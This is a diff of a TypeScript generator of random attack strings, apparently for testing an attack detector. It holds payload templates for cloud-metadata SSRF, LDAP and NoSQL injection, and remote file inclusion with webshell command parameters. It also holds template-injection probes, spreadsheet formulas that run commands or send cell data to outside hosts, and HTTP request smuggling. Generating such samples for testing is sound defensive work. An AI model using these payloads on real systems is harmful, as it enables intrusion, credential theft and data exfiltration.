@@ -2,7 +2,10 @@
 
 import type { Random } from "../random.ts"
 import { applicationFile, unixFile, windowsFile } from "./files.ts"
-import { digits, hostName, identifier, ipAddress, oneOf } from "./grammar.ts"
+import { hostName, identifier, oneOf } from "./grammar.ts"
+import { objectAttack } from "./object-attack.ts"
+import { documentQuery, ldapInjection, xpathInjection } from "./query-injection.ts"
+import { serverSideRequest } from "./server-side-request.ts"
 import { word } from "./vocabulary.ts"
 
 /**
@@ -25,85 +28,11 @@ export function otherAttack(random: Random): string {
     logLookup,
     remoteInclude,
     remoteInclude,
-  ])
-}
-
-/**
- * Addresses that only the server itself, or its cloud, can reach. A plain address of the loopback
- * is what developers use all day: it counts only in disguise or with the path of an inner service.
- */
-function serverSideRequest(random: Random): string {
-  if (random.chance(0.3)) return rawProtocol(random)
-  const lead = random.pick(["", "", "", "url=", "uri=", "next=", "dest=", "target="])
-  const scheme = random.pick(["http://", "http://", "https://", "http:\\\\", "url:http://"])
-  return `${lead}${scheme}${oneOf(random, [cloudMetadata, cloudMetadata, disguisedLoopback, innerService])}`
-}
-
-function cloudMetadata(random: Random): string {
-  const host = random.pick([
-    "169.254.169.254",
-    "169.254.169.254",
-    "[fd00:ec2::254]",
-    "metadata.google.internal",
-    "100.100.100.200",
-    "2852039166",
-    "0xa9fea9fe",
-    `${identifier(random)}@169.254.169.254`,
-  ])
-  const path = random.pick([
-    "/",
-    "/latest/meta-data/",
-    "/latest/meta-data/iam/security-credentials/",
-    "/latest/meta-data/hostname",
-    "/latest/user-data",
-    "/latest/dynamic/instance-identity/document",
-    "/computeMetadata/v1/instance/service-accounts/default/token",
-    "/metadata/instance?api-version=2021-02-01",
-    "/opc/v1/instance/",
-  ])
-  return `${host}${path}`
-}
-
-function disguisedLoopback(random: Random): string {
-  const host = random.pick([
-    "2130706433",
-    "0x7f000001",
-    "017700000001",
-    "0x7f.1",
-    "127.1",
-    "127.0.1",
-    "[::ffff:127.0.0.1]",
-    "[0:0:0:0:0:0:0:1]",
-    "127.0.0.1.nip.io",
-    `${identifier(random)}.com@127.0.0.1`,
-    `127.0.0.1%2523@${hostName(random)}`,
-    "localhost%00",
-  ])
-  return `${host}${random.pick(["", "/", ":22", ":80/", ":6379/", "/admin", `/${identifier(random)}`])}`
-}
-
-function innerService(random: Random): string {
-  const host = random.pick(["127.0.0.1", "localhost", "0.0.0.0", "[::]", "[::1]"])
-  return `${host}${random.pick([":22/", ":25/", ":2375/containers/json", ":6379/", ":9200/_cat/indices", ":11211/", ":8500/v1/kv/?recurse", ":10250/pods", "/server-status", ":8080/actuator/env", "/latest/meta-data/", ":5984/_all_dbs"])}`
-}
-
-/** Protocols by which one line can be written into a service that speaks another. */
-function rawProtocol(random: Random): string {
-  const port = random.pick([6379, 25, 11211, 3306, 9000, 80])
-  const line = random.pick([
-    "*1%0d%0a$8%0d%0aflushall%0d%0a",
-    "EHLO%20x%0aMAIL%20FROM",
-    "stats%0aquit",
-    "info",
-    "set%201%20%22x%22",
-    "SLAVEOF%201.2.3.4%206379",
-  ])
-  return oneOf(random, [
-    (r) => `gopher://${r.pick(["127.0.0.1", "localhost", ipAddress(r)])}:${port}/_${line}`,
-    (r) => `dict://${r.pick(["127.0.0.1", "localhost", ipAddress(r)])}:${port}/${line}`,
-    (r) =>
-      `${r.pick(["ldap", "tftp", "sftp", "ftp"])}://${hostName(r)}:${r.between(1, 65535)}/${identifier(r)}`,
-    (r) => `netdoc://${unixFile(r)}`,
+    xpathInjection,
+    objectAttack,
+    objectAttack,
+    formula,
+    smuggledRequest,
   ])
 }
 
@@ -130,6 +59,10 @@ function templateInjection(random: Random): string {
     "settings.SECRET_KEY",
   ])
   const probe = oneOf(random, [
+    engineInternals,
+    engineInternals,
+    engineInternals,
+    engineInternals,
     () => `{{${sum}}}`,
     () => `{{ ${sum} }}`,
     () => `\${${sum}}`,
@@ -194,93 +127,6 @@ function externalEntity(random: Random): string {
   ])
 }
 
-function ldapInjection(random: Random): string {
-  const attribute = random.pick([
-    "uid",
-    "cn",
-    "sn",
-    "mail",
-    "userPassword",
-    "objectClass",
-    "password",
-    "memberOf",
-    "ou",
-    "givenName",
-  ])
-  const value = random.pick(["*", "*", "admin", "a*", identifier(random)])
-  return oneOf(random, [
-    () => `${random.pick(["*", "admin", identifier(random)])})(${attribute}=${value}`,
-    () => `${random.pick(["*", "admin", ""])})(${random.pick(["|", "&"])}(${attribute}=${value})`,
-    () => `*)(${attribute}=*))(|(${attribute}=*`,
-    () => `${random.pick(["admin", identifier(random)])})(&)`,
-    () =>
-      `(${random.pick(["|", "&"])}(${attribute}=${value})(${random.pick(["mail", "cn", "uid"])}=*))`,
-    () => `${random.pick(["*", "x"])})(!(${attribute}=${value}))(&(1=1`,
-    () => `*)(${attribute}=*${random.pick(["", "%00", "))%00"])}`,
-    () => `(!(${attribute}=${value}))`,
-    () => `admin*)((|${attribute}=*)`,
-    () => `${attribute}=*))%00`,
-    () => `*(|(${attribute}=*))`,
-  ])
-}
-
-function documentQuery(random: Random): string {
-  const field = random.pick([
-    "username",
-    "password",
-    "user",
-    "login",
-    "email",
-    "id",
-    "pass",
-    "name",
-    identifier(random),
-  ])
-  const operator = random.pick([
-    "$ne",
-    "$gt",
-    "$regex",
-    "$exists",
-    "$in",
-    "$nin",
-    "$gte",
-    "$lt",
-    "$where",
-    "$eq",
-    "$type",
-  ])
-  const operand = random.pick([
-    "null",
-    '""',
-    "1",
-    "true",
-    '".*"',
-    '"^a"',
-    '["admin"]',
-    "-1",
-    `"${identifier(random)}"`,
-  ])
-  return oneOf(random, [
-    () => `${field}[${operator}]=${operand.replaceAll('"', "")}`,
-    () =>
-      `${field}[${operator}]=${identifier(random)}&${random.pick(["password", "pass"])}[${operator}]=${digits(random, 1)}`,
-    () => `{"${field}": {"${operator}": ${operand}}}`,
-    () => `{"${field}":{"${operator}":${operand}},"password":{"${operator}":${operand}}}`,
-    () => `{"${operator}": ${operand}}`,
-    () =>
-      `{"$where": "${random.pick(["sleep(5000)", "this.password.length > 5", "1==1", "return true", "this.a == 'b'"])}"}`,
-    () =>
-      `${random.pick(["'", '"'])} || ${random.pick(["1==1", "'1'=='1", "true", "this.password.match(/.*/)"])}${random.pick(["//", "%00", " || '", ";//"])}`,
-    () =>
-      `';${random.pick(["return true", "while(1)", "return(true)", "db.users.drop()", "var d=new Date();do{c=new Date();}while(c-d<9000)"])};${random.pick(["'", "//", "var x='"])}`,
-    () => `{"$or":[{"${field}":"admin"},{"a":"a"}]}`,
-    () => `this.${field} ${random.pick(["==", "!="])} '${identifier(random)}' || 1==1`,
-    () =>
-      `db.${random.pick(["users", "accounts", identifier(random)])}.${random.pick(["find()", "insert({a:1})", "drop()", "remove({})"])}`,
-    () => `"}, {"${field}": {"${operator}": ${operand}}, "x": "`,
-  ])
-}
-
 function headerBreak(random: Random): string {
   const breakLine = random.pick([
     "%0d%0a",
@@ -325,8 +171,9 @@ function logLookup(random: Random): string {
 }
 
 function remoteInclude(random: Random): string {
-  const file = `${identifier(random)}${random.pick([".txt", ".php", ".gif", ".jpg", ".inc", ""])}`
-  const tail = random.pick(["?", "?", "??", "%00", "?cmd=id", "?&cmd=ls", "%3f", ".txt?"])
+  const script = random.pick(["shell", "c99", "r57", "cmd", "evil", "backdoor", identifier(random)])
+  const file = `${script}${random.pick([".txt", ".php", ".gif", ".jpg", ".inc", ""])}`
+  const tail = random.pick(["%00", "?cmd=id", "?&cmd=ls", "?cmd=whoami", "%3f%00", "?c=uname+-a"])
   const url = `${random.pick(["http://", "http://", "http://", "https://", "ftp://", "hTTp://"])}${hostName(random)}/${random.pick(["", `${identifier(random)}/`, "~x/"])}${file}${tail}`
   const name = random.pick([
     "page",
@@ -349,7 +196,6 @@ function remoteInclude(random: Random): string {
   ])
   return oneOf(random, [
     () => `${scriptPath(random)}?${name}=${url}`,
-    () => url,
     () => `${name}=${url}`,
     () =>
       `${random.pick(["data://text/plain,", "data:text/plain;base64,", "php://input", "expect://id", "expect://ls", "phar://x.phar/y", "zip://x.zip%23y"])}${random.pick(["", btoa("<?php phpinfo(); ?>"), "<?php system('id');?>"])}`,
@@ -376,4 +222,65 @@ function scriptPath(random: Random): string {
     identifier(random),
   ])
   return `/${directories}${script}${random.pick([".php", ".php", ".php", ".inc.php", ".class.php", ".asp", ".jsp", ""])}`
+}
+
+/** What the documentation of an engine offers to a template and a stranger should not reach. */
+function engineInternals(random: Random): string {
+  return random.pick([
+    "{{config.__class__.__init__.__globals__['os']}}",
+    "{{request.environ}}",
+    "{{url_for.__globals__}}",
+    "{{app.request.query.all}}",
+    "{{_self.env.display('x')}}",
+    "{{dump(app)}}",
+    "{$smarty.version}",
+    "#set($e='e')$e.getClass().forName('java.lang.Runtime')",
+    "$class.inspect('java.lang.Runtime').type",
+    "${class.getResource('').getPath()}",
+    "${''.getClass()}",
+    "<#list .data_model?keys as k>${k}</#list>",
+    "[#assign x='freemarker.template.utility.Execute'?new()]${x('id')}",
+    "{{range.constructor('return global')()}}",
+    "{{this.constructor.constructor('return process')()}}",
+    "#{global.process.mainModule}",
+    "<%= global.process.env %>",
+    "${self.module.cache.util.os}",
+    "<% import os %>${os.environ}",
+    "{% import os %}{{os.getcwd()}}",
+    "{{ joiner.__init__.__globals__.os }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
+    "{{ x.__class__.__mro__ }}",
+    "@System.Environment.MachineName",
+    "@(Environment.OSVersion)",
+    '{{.}}{{printf "%s" .Password}}',
+    "${T(java.lang.System).getProperty('user.dir')}",
+    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+    "${#_memberAccess['allowStaticMethodAccess']=true}",
+  ])
+}
+
+/** A cell that a spreadsheet would compute (OpenFormula; Dynamic Data Exchange). */
+function formula(random: Random): string {
+  const url = `http://${hostName(random)}`
+  return `${random.pick(["=", "+", "-", "@"])}${random.pick([
+    `cmd|'/C ${random.pick(["calc", "notepad", "powershell"])}'!A${random.below(10)}`,
+    "SUM(1+1)*cmd|' /C calc'!A0",
+    `HYPERLINK("${url}?x="&A${random.below(10)},"${word(random)}")`,
+    `IMPORTXML(CONCAT("${url}/?v=",A1),"//a")`,
+    `WEBSERVICE("${url}/")`,
+    'DDE("cmd";"/C calc";"x")',
+  ])}`
+}
+
+/** One message that two servers cut at different places (RFC 9112, section 11.2). */
+function smuggledRequest(random: Random): string {
+  const line = random.pick(["\r\n", "\r\n", "%0d%0a"])
+  const coding = `Transfer-Encoding:${random.pick([" chunked", "\tchunked", " xchunked", " chunked, identity"])}`
+  const length = `Content-Length: ${random.below(9)}`
+  const next = `${random.pick(["GET", "POST", "G"])} /${random.pick(["admin", identifier(random)])} HTTP/1.1`
+  return random.pick([
+    `POST / HTTP/1.1${line}Host: ${hostName(random)}${line}${coding}${line}${length}${line}${line}0${line}${line}${next}`,
+    `0${line}${line}${next}${line}Host: ${hostName(random)}`,
+    `${length}${line}${coding}${line}${line}0${line}${line}${next}`,
+  ])
 }
